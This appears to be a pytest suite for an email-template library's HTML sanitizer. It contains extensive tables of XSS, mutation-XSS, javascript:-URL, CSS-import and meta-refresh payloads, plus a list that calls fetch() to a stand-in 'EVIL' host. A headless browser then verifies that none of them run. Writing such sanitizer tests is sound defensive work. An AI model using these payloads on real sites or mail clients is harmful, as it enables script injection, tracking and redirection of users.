"""HTML that would run, load, submit or lead elsewhere, however it is written, is refused or harmless."""

import shutil
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2 import Environment
from selectolax.lexbor import LexborHTMLParser

from aftershow.content.html.allowed import ELEMENTS, has_attribute
from aftershow.content.html.inlining import inline_css
from aftershow.content.html.inlining_proof import same_document
from aftershow.content.template import MessageTemplate, load_template
from aftershow.errors import ContentError
from tests.attacks.fuzzing import MANY, examples
from tests.support.waiting import HANGS

NAMES = frozenset({"given_name", "family_name", "company", "grade", "city", "language", "email", "answers"})
PERSON: dict[str, Any] = {
    "given_name": "Zoë",
    "family_name": "Oka",
    "company": "evil.example",
    "grade": "A",
    "city": "Ulm",
    "answers": {"site": "https://evil.example", "many": ["a", "b"]},
    "sender": {"name": "Dana", "email": "dana@example.com", "phone": "+1 217", "title": None},
    "our": {"name": "Example", "address": "1 Foundry Street", "website": "https://www.example.com"},
    "unsubscribe_url": "https://mail.example.com/u/1",
}

#: What one parser takes for a comment, a text or nothing, and another for an element.
HIDDEN = r"""
<!--><script>x</script>-->
<!---><script>x</script>-->
<!----!><script>x</script>-->
<!--x--!><script>x</script>-->
<!--<!--><img src=x onerror=x>-->
<!-- <!-- --><img src=x onerror=x> -->
<!--x-- ><script>x</script>-->
<!--[if mso]><script>x</script><![endif]-->
<!--[if mso]>--><script>x</script><!--<![endif]-->
<!--[if mso]>--!><script>x</script><![endif]-->
<!--[if mso]><!--><script>x</script><![endif]-->
<!--[if !mso]><!--><script>x</script><!--<![endif]-->
<!--[if mso]><title><![endif]--><script>x</script>
<!--[if mso]><p title="<![endif]--><script>x</script>"></p><![endif]-->
<!--[if mso]>{{ company }}><script>x</script><![endif]-->
<!--[if {{ company }}]><b>x</b><![endif]-->
<!--[if mso]>{% if grade %}<![endif]--><p>x</p><!--[if mso]>{% endif %}<![endif]-->
<!-- {{ company }}> -->
<!--{% if grade %}-->x<!--{% endif %}-->
{% if grade %}<!--{% endif %}<script>x</script>-->
<![if !mso]><p>x</p><![endif]>
<?xml version="1.0"?><p>x</p>
<?><script>x</script>?>
<![CDATA[<script>x</script>]]>
<!x><p>x</p>
<!doctype html [<!ENTITY x "<script>">]><p>x</p>
<p>x</p><!doctype html><script>x</script>
</><p>x</p>
</ script><p>x</p>
<style></style ><script>x</script></style>
<style><!--</style><script>x</script>--></style>
<style>p { color: red } <\/style><script>x</script></style>
<ſtyle><p>x</p></ſtyle>
<style>x</ſtyle><script>x</script></style>
<title><script>x</script></title>
<title>x</title/><script>x</script>
<title>x</title x="><script>x</script>
<title>{% if grade %}</title><script>x</script><title>{% endif %}</title>
{% if grade %}<title>{% endif %}<script>x</script></title>
<noscript><p title="</noscript><img src=x onerror=x>">x</p></noscript>
<template><script>x</script></template>
<textarea><p title="</textarea><img src=x onerror=x>"></textarea>
<xmp><p title="</xmp><img src=x onerror=x>"></xmp>
<noembed><p title="</noembed><img src=x onerror=x>"></noembed>
<noframes><p title="</noframes><img src=x onerror=x>"></noframes>
<listing><p title="</listing><img src=x onerror=x>"></listing>
<plaintext><script>x</script>
<select><style></select><script>x</script></style></select>
<svg><style><img src=x onerror=x></style></svg>
<svg></p><style><a title="</style><img src=x onerror=x>"></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=x>"></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=x></form>
<svg><![CDATA[<img src=x onerror=x>]]></svg>
<svg><title><style><!--</style><img src=x onerror=x>--></title></svg>
"""

#: Elements, and what stands in their tags.
TAGS = r"""
<script>x</script>
<SCRIPT SRC=//evil.example></SCRIPT>
<scr{# #}ipt>x</script>
<{% raw %}script{% endraw %}>x</script>
<{% if grade %}script{% endif %}>x</script>
<{{ company }}>x
<svg onload=x></svg>
<svg><script>x</script></svg>
<svg><animate attributeName="href" values="javascript:x"></animate></svg>
<math href="javascript:x">x</math>
<iframe srcdoc="x"></iframe>
<object data="x"></object>
<embed src="x">
<applet code="x"></applet>
<base href="https://evil.example/">
<link rel="stylesheet" href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=https://evil.example/">
<meta http-equiv="Refresh" content="0">
<meta content="0;url=https://evil.example/" http-equiv="&#114;efresh">
<meta http-equiv="{{ company }}" content="0">
<meta http-equiv="{% if grade %}re{% endif %}fresh" content="0">
<meta http-equiv="set-cookie" content="a=b">
<meta itemprop="url" content="https://{{ company }}/">
<p itemscope itemtype="{{ company }}">x</p>
<p itemscope itemtype="https://evil.example/Action">x</p>
<meta http-equiv="content-security-policy" content="x">
<meta http-equiv="content-type" content="text/html; charset=utf-7">
<meta charset="utf-7">
<meta name="referrer" content="unsafe-url">
<form action="https://example.com/"><p>x</p></form>
<input type="image" src="https://example.com/">
<button formaction="javascript:x">x</button>
<isindex action="x">
<video src="https://example.com/"></video>
<audio src="https://example.com/"></audio>
<frameset><frame src="x"></frameset>
<marquee onstart=x>x</marquee>
<portal src="https://example.com/"></portal>
<dialog open onclose=x>x</dialog>
<details ontoggle=x open>x</details>
<keygen onfocus=x>
<bgsound src="https://example.com/">
<layer src="https://example.com/"></layer>
<xml><p>x</p></xml>
<o:p>x</o:p>
<v:rect href="javascript:x"></v:rect>
<p onclick="x">x</p>
<p ONCLICK=x>x</p>
<p/onclick=x>x</p>
<p/ onclick=x>x</p>
<p title="x"onclick="x">x</p>
<p title='x'/onclick="x">x</p>
<p {% if grade %}onclick="x"{% endif %}>x</p>
<p {% if grade %}on{% endif %}click="x">x</p>
<p o{% if grade %}nclick="x"{% endif %}>x</p>
<p onclick{% if grade %}="x"{% endif %}>x</p>
<p title="{% if grade %}">{% else %}"{% endif %}x</p>
<p title="{% if grade %}"{% else %}x{% endif %} onclick="x">x</p>
<p title="{% if grade %}x" onclick="x{% endif %}">x</p>
<p title="a{% if grade %}"><b title="{% endif %}">x</b></p>
<p {{ company }}>x</p>
<p {{ company }}="x">x</p>
<p title={{ company }}>x</p>
<p title=x{{ company }}>x</p>
<p title=`x`>x</p>
<p title=a title=b>x</p>
<p title="&{{ company }};">x</p>
<p title="&#{{ company }};">x</p>
<p>&#{{ company }};</p>
<p popovertarget="x">x</p>
<p xmlns="http://www.w3.org/2000/svg{{ company }}">x</p>
<p is="x-y">x</p>
<p slot="x" part="y">x</p>
<p contenteditable autofocus>x</p>
<p style="color: red" STYLE="x: y">x</p>
<img lowsrc="https://example.com/" src="https://example.com/a.png" alt="">
<img dynsrc="https://example.com/" alt="">
<img longdesc="javascript:x" alt="">
<a href="https://example.com/" ping="https://evil.example/">x</a>
<a href="https://example.com/" target="{{ company }}">x</a>
<a href="https://example.com/" download>x</a>
"""

#: Where links lead, and what is loaded.
ADDRESSES = r"""
<a href="javascript:x">x</a>
<a href=javascript:x>x</a>
<a href="JaVaScRiPt:x">x</a>
<a href=" javascript:x">x</a>
<a href="&#1;javascript:x">x</a>
<a href="&#106;avascript:x">x</a>
<a href="&#x6A;avascript:x">x</a>
<a href="&#0000106avascript:x">x</a>
<a href="java&Tab;script:x">x</a>
<a href="java&NewLine;script:x">x</a>
<a href="javascript&colon;x">x</a>
<a href="{{ '' }}javascript:x">x</a>
<a href="{{ 'java' }}script:x">x</a>
<a href="{% if grade %}https://{% endif %}javascript:x">x</a>
<a href="{% if grade == 'B' %}https://{% else %}javascript:{% endif %}x">x</a>
<a href="{% if grade == 'B' %}https://example.com/{% elif grade %}java{% endif %}script:x">x</a>
<a href="{% if grade %}{% if city %}java{% endif %}{% endif %}{% if city %}script:{% endif %}https://example.com/">x</a>
<a {% if grade == 'B' %}href="https://example.com/"{% else %}href="javascript:x"{% endif %}>x</a>
<a href="{% for x in [1, 2] %}h{% endfor %}ttps://example.com/">x</a>
<a href="data:text/html,x">x</a>
<a href="vbscript:x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="blob:https://example.com/x">x</a>
<a href="view-source:https://example.com/">x</a>
<a href="httpſ://example.com/">x</a>
<a href="https:example.com">x</a>
<a href="//example.com/">x</a>
<a href="/\example.com/">x</a>
<a href="x/y">x</a>
<a href="https://a@example.com/">x</a>
<a href="https://exa&NewLine;mple.com/">x</a>
<a href="https://{{ company }}/">x</a>
<a href="https://{{ company }}.example.com/">x</a>
<a href="https://example.com{{ company }}/">x</a>
<a href="https://example.com{{ company }}">x</a>
<a href="https://example.com:{{ company }}/">x</a>
<a href="https://a@{{ company }}/">x</a>
<a href="https://a:{{ company }}@example.com/">x</a>
<a href="//{{ company }}/">x</a>
<a href="\\{{ company }}/">x</a>
<a href="https:\\{{ company }}/">x</a>
<a href="https:/{{ company }}/">x</a>
<a href="https:{{ company }}">x</a>
<a href="https://example.com\{{ company }}">x</a>
<a href="https://example.com&period;{{ company }}">x</a>
<a href="h{{ company }}">x</a>
<a href="{% if grade %}https://example.com{% else %}https://example.com/{% endif %}{{ company }}">x</a>
<a href="{{ answers.site }}">x</a>
<a href='{{ answers["site"] }}'>x</a>
<a href="{{ answers.site|urlencode }}">x</a>
<a href="{{ our.website }}{{ company }}">x</a>
<a href="{{ our.website }}.{{ company }}">x</a>
<a href="{{ our.website }}@{{ company }}">x</a>
<a href="{{ our.website or company }}">x</a>
<a href="{{ company and our.website or company }}">x</a>
<a href="{{ company if grade else our.website }}">x</a>
<a href="{{ 'https://' ~ company }}">x</a>
<a href="{{ 'https://' ~ company ~ '.example.com/' }}">x</a>
<a href="{{ our.website ~ company }}">x</a>
<a href="{{ ['https://', company]|join }}">x</a>
<a href="{{ 'https://example.com/'|replace('example.com', company) }}">x</a>
<a href="{{ our.website|replace('www.example.com', company) }}">x</a>
<a href="{{ our.website|default(company) }}">x</a>
{% set site = company %}<a href="{{ site }}">x</a>
{% set our = answers %}<a href="{{ our.website }}">x</a>
{% with sender = answers %}<a href="mailto:{{ sender.site }}">x</a>{% endwith %}
{% for our in answers.many %}<a href="{{ our }}">x</a>{% endfor %}
{% for our in [answers] %}<a href="{{ our.site }}">x</a>{% endfor %}
{% set a = "https://example.com" %}{% if grade %}{% set a = company %}{% endif %}<a href="{{ a }}">x</a>
{% with a = company %}{% with b = a %}<a href="{{ b }}">x</a>{% endwith %}{% endwith %}
{% set city = "https://example.com" %}<a href="{{ city }}">x</a>
<a href="mailto:{{ company }}">x</a>
<a href="mailto:{{ sender.email }},{{ company }}">x</a>
<a href="mailto:a@{{ company }}">x</a>
<a href="tel:{{ answers.phone or '1' }}">x</a>
<a href="mailto:?to={{ company }}">x</a>
<a href="mailto:a@example.com?bcc={{ company }}">x</a>
<a href="mailto:a@example.com?subject=x&amp;cc={{ company|urlencode }}">x</a>
<a href="mailto:a@example.com?subject=x&#38;b{{ 'cc=' }}{{ company }}">x</a>
<a href="mailto:a@example.com?subjects={{ company }}">x</a>
<a href="mailto:a@example.com?body=x&amp;{{ company }}=x">x</a>
<a href="sms:?&amp;to={{ company }}">x</a>
<a href="tel:1?{{ company }}">x</a>
<a href="https://example.com/{{ '?n=' if grade else company }}">x</a>
<img src="{{ company }}" alt="">
<img src="//example.com/a.png" alt="">
<img src="data:image/svg+xml,x" alt="">
<img src="mailto:a@b.example" alt="">
<img src="https://{{ company }}/a.png" alt="">
<img srcset="javascript:x 2x" alt="">
<img srcset="https://{{ company }}/x 2x" alt="">
<img srcset="https://example.com/a.png 1x, //evil.example/b.png 2x" alt="">
<body background="javascript:x"><p>x</p></body>
<table background="https://{{ company }}/"><tr><td>x</td></tr></table>
<td background="//example.com/x">x</td>
<!--[if mso]><a href="javascript:x">y</a><![endif]-->
<!--[if mso]><a href="{{ answers.site }}">y</a><![endif]-->
<!--[if mso]><v:rect href="javascript:x" style="width:1px"></v:rect><![endif]-->
<!--[if mso]><v:rect href="https://{{ company }}/"></v:rect><![endif]-->
<!--[if mso]><v:fill src="https://{{ company }}/x"/><![endif]-->
<!--[if mso]><p title={{ company }}>y</p><![endif]-->
<!--[if mso]><p onclick="x">y</p><![endif]-->
"""

#: CSS that loads, runs or is no CSS.
STYLES = r"""
<p style="background: url({{ company }})">x</p>
<p style="background: url('{{ company }}')">x</p>
<p style="background: url(https://{{ company }}/a.png)">x</p>
<p style="background: url(https://example.com/{{ company }})">x</p>
<p style="background: URL( 'https://example.com/{{ company }}' )">x</p>
<p style="background: u\72l(https://example.com/{{ company }})">x</p>
<p style="background: url(//example.com/a)">x</p>
<p style="background: url(javascript:x)">x</p>
<p style="background: url(data:image/svg+xml,x)">x</p>
<p style="background-image: image-set('https://example.com/a' 1x)">x</p>
<p style="background-image: -webkit-image-set(url(javascript:x) 1x)">x</p>
<p style="background: src('https://example.com/a')">x</p>
<p style="background: element(#x)">x</p>
<p style="--x: url({{ company }}); background: var(--x)">x</p>
<p style="width: expression(x)">x</p>
<p style="width: exp/**/ression(x)">x</p>
<p style="width: e\78 pression(x)">x</p>
<p style="behavior: url(https://example.com/a.htc)">x</p>
<p style="b\65 havior: url(https://example.com/a)">x</p>
<p style="-ms-behavior: url(https://example.com/a)">x</p>
<p style="-moz-binding: url(https://example.com/a.xml#x)">x</p>
<p style="filter: progid:DXImageTransform.Microsoft.AlphaImageLoader(src='x')">x</p>
<p style="{{ company }}: red">x</p>
<p style="color: {{ company }}(1)">x</p>
<p style="color: \{{ company }}">x</p>
<p style="color: red; {{ company }}">x</p>
<p style="color: red /* {{ company }} */">x</p>
<p style="{% if grade %}color: {% endif %}behavior: {% if city %}x{% endif %}">x</p>
<p style="background:{% if grade %}url{% endif %}(https://example.com/)">x</p>
<p style="{% if grade %}/*{% endif %}color: red;{% if grade %}*/{% endif %}b{% if 1 %}{% endif %}eh: x">x</p>
<p style="content: '{{ company }}; background: url(x)">x</p>
<p style="color: red; } b { background: url(x)">x</p>
<style>@import "https://evil.example/a.css";</style><p>x</p>
<style>@IMPORT url(https://evil.example/a.css);</style><p>x</p>
<style>@\69mport "https://evil.example/a.css";</style><p>x</p>
<style>/**/@import/**/"https://evil.example/a.css";</style><p>x</p>
<style data-premailer="ignore">@import "https://evil.example/a.css";</style><p>x</p>
<style>@namespace "https://evil.example/";</style><p>x</p>
<style>@media all { p { background: url(javascript:x) } }</style><p>x</p>
<style>@font-face { font-family: X; src: url(//evil.example/x) }</style><p>x</p>
<style>p { background: url(javascript:x) }</style><p>x</p>
<style>p { behavior: url(#x) }</style><p>x</p>
<style>p { color: {{ company }} }</style><p>x</p>
<style>p { {% if grade %}color: red{% endif %} }</style><p>x</p>
<style type="text/javascript">x</style><p>x</p>
<!--[if mso]><p style="behavior: url(#x)">x</p><![endif]-->
<!--[if supportFields]><p style="mso-element: field-begin">x</p><![endif]-->
<p style="mso-field-code: 'INCLUDEPICTURE https://evil.example/a'">x</p>
<!--[if mso]><style>v\:* { behavior: url(#default#VML) }</style><![endif]-->
"""


def lines(table: str) -> list[str]:
    return table.strip("\n").split("\n")


ATTACKS = [*lines(HIDDEN), *lines(TAGS), *lines(ADDRESSES), *lines(STYLES)]


def load(folder: Path, html: str) -> MessageTemplate:
    """Load an email with this HTML."""
    (folder / "hello").mkdir(parents=True, exist_ok=True)
    (folder / "hello/subject.txt").write_text("Hello")
    (folder / "hello/email.html").write_text(html)
    return load_template(folder, "hello", names=NAMES)


@pytest.mark.parametrize("html", ATTACKS, ids=range(len(ATTACKS)))
def test_what_no_mail_may_have_is_refused(html: str, tmp_path: Path) -> None:
    """However it is written, what could run, load or lead elsewhere is a mistake with its file and line."""
    with pytest.raises(ContentError) as caught:
        load(tmp_path, html)
    assert all(problem.file.endswith("hello/email.html") for problem in caught.value.problems)


def test_a_comment_in_data_is_text_where_each_mail_is_inlined(tmp_path: Path) -> None:
    """libxml2 writes <!-- of an attribute as it is; the mail says it as a reference, and goes out."""
    template = load(tmp_path, '<p class="{{ company }}">x</p>')
    assert template.warnings
    html = template.render_email(PERSON | {"company": "<!--' --><script>\"--!>"}).html
    assert html.count("<") == html.count("<!DOCTYPE") + 8
    assert_allowed(html)


def test_control_characters_are_refused(tmp_path: Path) -> None:
    """A null byte splits no tag."""
    for html in (
        "<scr\0ipt>x</script>",
        '<a href="java\0script:x">x</a>',
        "<p \x0conclick=x>x</p>",
        "<p>\x1bx</p>",
    ):
        with pytest.raises(ContentError):
            load(tmp_path, html)


@pytest.mark.parametrize(
    ("html", "sent"),
    [
        (
            '<a href="https://www.example.com/{{ company }}">x</a>',
            "https://www.example.com/a%2F..%2F%40b%3Fc%26d%22",
        ),
        (
            '<a href="https://www.example.com?n={{ company }}">x</a>',
            "https://www.example.com?n=a%2F..%2F%40b%3Fc%26d%22",
        ),
        ('<a href="{{ our.website }}/?n={{ company|urlencode }}">x</a>', "/?n=a%2F..%2F%40b%3Fc%26d%22"),
        ('<a href="{{ "https://a.example/?n=" ~ company|urlencode }}">x</a>', "n=a%2F..%2F%40b%3Fc%26d%22"),
        (
            '<a href="mailto:{{ sender.email }}?subject={{ company }}">x</a>',
            "?subject=a%2F..%2F%40b%3Fc%26d%22",
        ),
        (
            '<a href="mailto:a@b.example?subject={{ company }}&amp;body=Is it? {{ company }}">x</a>',
            "&amp;body=Is it? a%2F..%2F%40b%3Fc%26d%22",
        ),
        (
            '<a href="https://a.example/?n={{ company or "you" }}">x</a>',
            "https://a.example/?n=a%2F..%2F%40b%3Fc%26d%22",
        ),
        (
            '<a href="https://a.example/{{ our.website or "us" }}">x</a>',
            "https://a.example/https://www.example.com",
        ),
        (
            '<!--[if mso]><a href="https://a.example/{{ company }}">x</a><![endif]--><p>x</p>',
            "/a%2F..%2F%40b%3Fc%26d%22",
        ),
        ('<p title="{{ company }}">x</p>', 'title="a/../@b?c&amp;d&#34;"'),
        ("<p title='{{ company }}'>x</p>", "a/../@b?c&amp;d&#34;"),
    ],
)
def test_data_is_one_word_of_an_address(html: str, sent: str, tmp_path: Path) -> None:
    """Data may stand in a path or a query, in HTML and in plain text, and decides over nothing else."""
    parts = load(tmp_path, html).render_email(PERSON | {"company": 'a/../@b?c&d"'})
    assert sent in parts.html
    assert 'b?c&d"' not in parts.text


@pytest.mark.parametrize("begin", ["<!-->", " <!-->", "<!---->", "<!-- -->", " <!-- -->"])
@pytest.mark.parametrize("end", ["<!--<![endif]-->", "<!-- <![endif]-->"])
def test_builders_hide_from_outlook_in_several_ways(begin: str, end: str, tmp_path: Path) -> None:
    """MJML and Mailchimp write the comment in other ways; what is behind it is read as what it is."""
    shown = load(tmp_path, f"<!--[if !mso]>{begin}<p>x</p>{end}").render_email(PERSON).html
    assert "<p>x</p>" in LexborHTMLParser(shown).html
    with pytest.raises(ContentError):
        load(tmp_path, f"<!--[if !mso]>{begin}<script>x</script>{end}")


def test_what_is_written_as_marks_is_no_mark(tmp_path: Path) -> None:
    """The words that stand for expressions while a template is compiled can't be forged by references."""
    html = '<p>{{ company }}</p><a href="https://example.com/&#122;q1z&#x7a;q0z">&#122q1z &zopf;q1z</a>'
    parts = load(tmp_path, html).render_email(PERSON)
    assert parts.html.count("evil.example") == 1
    assert "https://example.com/zq1zzq0z" in parts.html
    assert parts.text.count("evil.example") == 1


FLAGS = ("given_name", "family_name", "company", "grade", "language", "email")
OPTIONAL = "".join(f'{{% if {name} %}}<p class="{name[0]}">x</p>{{% endif %}}' for name in FLAGS)
WRAPPED = (
    "".join(f'{{% if {name} %}}<div class="{name[0]}">{{% endif %}}' for name in FLAGS[:3])
    + "<p>x</p>"
    + "".join(f"{{% if {name} %}}</div>{{% endif %}}" for name in reversed(FLAGS[:3]))
)
LOOP = "<ul>{% for x in answers.many %}<li>{{ x }}</li>{% endfor %}</ul>"
EVERYBODY = [dict(zip(FLAGS, given, strict=True)) for given in product((None, "x"), repeat=len(FLAGS))]
CROWDS = [{"answers": {"many": ["x"] * many}} for many in range(9)]


@pytest.mark.parametrize(
    ("css", "body", "people"),
    [
        *((f".g {sign} .{end}", OPTIONAL, EVERYBODY) for sign, end in ("+e", "+f", "~e", "+l")),
        (".g + p + p + .e", OPTIONAL, EVERYBODY),
        (".g > p", WRAPPED, EVERYBODY[::8]),
        ("li + li + li + li + li", LOOP, CROWDS),
        ("li:nth-child(5)", LOOP, CROWDS),
        ("li:nth-child(3n+7)", LOOP, CROWDS),
        ("li:last-child", LOOP, CROWDS),
        ("li:not(:first-child)", LOOP, CROWDS),
    ],
)
def test_a_rule_holds_for_the_neighbours_that_are_there(
    css: str, body: str, people: list[dict[str, Any]], tmp_path: Path
) -> None:
    """A template is inlined once only where that is right for every mail: for any number, any neighbours."""
    style = f"<style>{css} {{ color: red }}</style>"
    source = f"<!doctype html><html><head>{style}</head><body>{body}</body></html>"
    template, each = load(tmp_path, source), Environment(autoescape=True).from_string(source)
    for person in people:
        html = template.render_email(PERSON | person).html
        assert same_document(html, inline_css(each.render(PERSON | person)))


#: What templates of the soup are made of, one piece a line; · is a space.
SOUP = r"""
<p>
</p>
<b>
</b>
<div>
</div>
<table><tr><td>
</td></tr></table>
<a href="https://example.com/
<a href='
</a>
<img src="https://example.com/a.png" alt="
<b title="
">
<br>
<!--
-->
--!>
<!-->
<!--[if mso]>
<!--[if !mso]><!-->
<![endif]-->
<!--<![endif]-->
<!doctype html>
<![CDATA[
]]>
<?x·
<style>
</style>
<title>
</title>
<script>
</script>
<svg>
<math>
<template>
<textarea>
</textarea>
<base·
<p·
·onclick="x"
·style="color:·
p { color: red }
@import 'x';
javascript:x
url(
)
&#122;q0z
&lt;
x
=
/
&
<
>
'
"
·
{{ company }}
{{ our.website }}
{% if grade %}
{% elif city %}
{% else %}
{% endif %}
{% for x in answers.many %}
{% endfor %}
"""


SOUPS = st.lists(st.sampled_from(lines(SOUP)), min_size=1, max_size=14)


@settings(max_examples=250)
@given(pieces=SOUPS)
def test_a_browser_finds_only_what_is_allowed(
    pieces: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """Whatever a template is made of, it is refused, or a browser sees in its mails what the lists allow."""
    attempt(tmp_path_factory.getbasetemp() / "soup", pieces)


@pytest.mark.proof
@settings(max_examples=examples(MANY))
@given(pieces=SOUPS)
def test_a_browser_finds_only_what_is_allowed_in_many(
    pieces: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    """The same, many times."""
    attempt(tmp_path_factory.getbasetemp() / "soup", pieces)


def attempt(folder: Path, pieces: list[str]) -> None:
    """Try a template made of some pieces."""
    try:
        template = load(folder, "".join(pieces).replace("·", " "))
    except ContentError:
        return
    for person in (
        {},
        {"grade": None},
        {"grade": None, "city": None},
        {"company": "\" onclick='x'><script>-->"},
    ):
        html = template.render_email(PERSON | person).html
        assert_allowed(html)


def assert_allowed(html: str) -> None:
    """Assert that a browser sees only what is allowed, also when it reads its own writing again."""
    tree = LexborHTMLParser(html)
    assert tree.root is not None
    for node in tree.root.traverse(include_text=False):
        if node.tag and node.tag[0] not in "-!":
            assert node.tag in ELEMENTS
            assert all(has_attribute(node.tag, name, outlook=False) for name in node.attributes)
            assert (node.attributes.get("href") or "https:").startswith("https:")
    assert LexborHTMLParser(tree.html or "").html == tree.html


@pytest.fixture
def server() -> Iterator[tuple[str, dict[str, bytes], list[str]]]:
    """A web server on this machine: its address, its pages, and what was asked of it."""
    pages: dict[str, bytes] = {}
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html; charset=utf-8")
            self.end_headers()
            self.wfile.write(pages.get(self.path, b""))

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as running:
        thread = threading.Thread(target=running.serve_forever)
        thread.start()
        yield f"http://127.0.0.1:{running.server_port}", pages, asked
        running.shutdown()
        thread.join()


#: What runs, loads or navigates, at the address EVIL.
LIVE = [
    "<!--><script>fetch('EVIL')</script>-->",
    "<!--[if mso]>--><script>fetch('EVIL')</script><!--<![endif]-->",
    "<script>fetch('EVIL')</script>",
    "<img src=x onerror=\"fetch('EVIL')\">",
    '<img lowsrc="EVIL" alt="">',
    '<meta http-equiv="refresh" content="0;url=EVIL">',
    '<img src="//EVIL" alt=""><p style="background: url(//EVIL)">x</p>',
    '<style>@import "EVIL";</style>',
    '<link rel="stylesheet" href="EVIL">',
    '<iframe src="EVIL"></iframe><object data="EVIL"></object><embed src="EVIL">',
    "<svg><script>fetch('EVIL')</script></svg><svg onload=\"fetch('EVIL')\"></svg>",
    '<video src="EVIL" autoplay></video>',
    "\"'><script>fetch('EVIL')</script>",
    "--><script>fetch('EVIL')</script>",
    "</title></style></textarea><script>fetch('EVIL')</script>",
    "red; background: url(EVIL)",
    '<img src="EVIL" alt=""><body background="EVIL">',
    "EVIL",
]

#: Templates that print what a person wrote, wherever that can stand.
PRINTING = """<title>{{ company }}</title>
<p title="{{ company }}" lang='{{ company }}'>{{ company }}</p>
<a href="https://example.com/{{ company }}">{{ company }}</a>
<!--[if mso]><b title="{{ company }}">{{ company }}</b><![endif]-->
<img alt="{{ company }}"><table width="{{ company }}"><tr><td>{{ company }}</td></tr></table>"""


def chromium() -> str:
    found = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
    if found is None:
        pytest.skip("Chromium is not installed")
    return found


def test_a_browser_runs_loads_and_opens_nothing(
    server: tuple[str, dict[str, bytes], list[str]], tmp_path: Path
) -> None:
    """Of mails with scripts and the like, by their template or by a name in them, none does anything."""
    browser = chromium()
    url, pages, asked = server
    evil = [piece.replace("EVIL", f"{url}/evil") for piece in LIVE]
    # Templates may load pictures from a fixed address; names may not.
    templates = [(html, "Acme") for html in evil[:-2]] + [(PRINTING, name) for name in evil]
    mails = [mail for html, name in templates if (mail := rendered(tmp_path, html, name))]
    assert len(mails) >= len(evil)
    pages |= {f"/mail/{number}": html.encode() for number, html in enumerate(mails)}
    pages["/control"] = evil[2].replace("/evil", "/control-ran").encode()
    frames = "".join(f'<iframe src="{path}"></iframe>' for path in [*pages])
    pages["/"] = f"<!doctype html>{frames}".encode()
    subprocess.run(
        [
            browser, "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking",
            "--disable-component-update", "--disable-sync", f"--user-data-dir={tmp_path / 'profile'}",
            "--virtual-time-budget=5000", "--dump-dom", f"{url}/",
        ],
        check=True,
        capture_output=True,
        timeout=HANGS,
    )  # fmt: skip
    assert "/control-ran" in asked
    assert {f"/mail/{number}" for number in range(len(mails))} <= set(asked)
    assert not [path for path in asked if path.startswith("/evil")]


def rendered(folder: Path, html: str, company: str) -> str | None:
    try:
        return load(folder, html).render_email(PERSON | {"company": company}).html
    except ContentError:
        return None
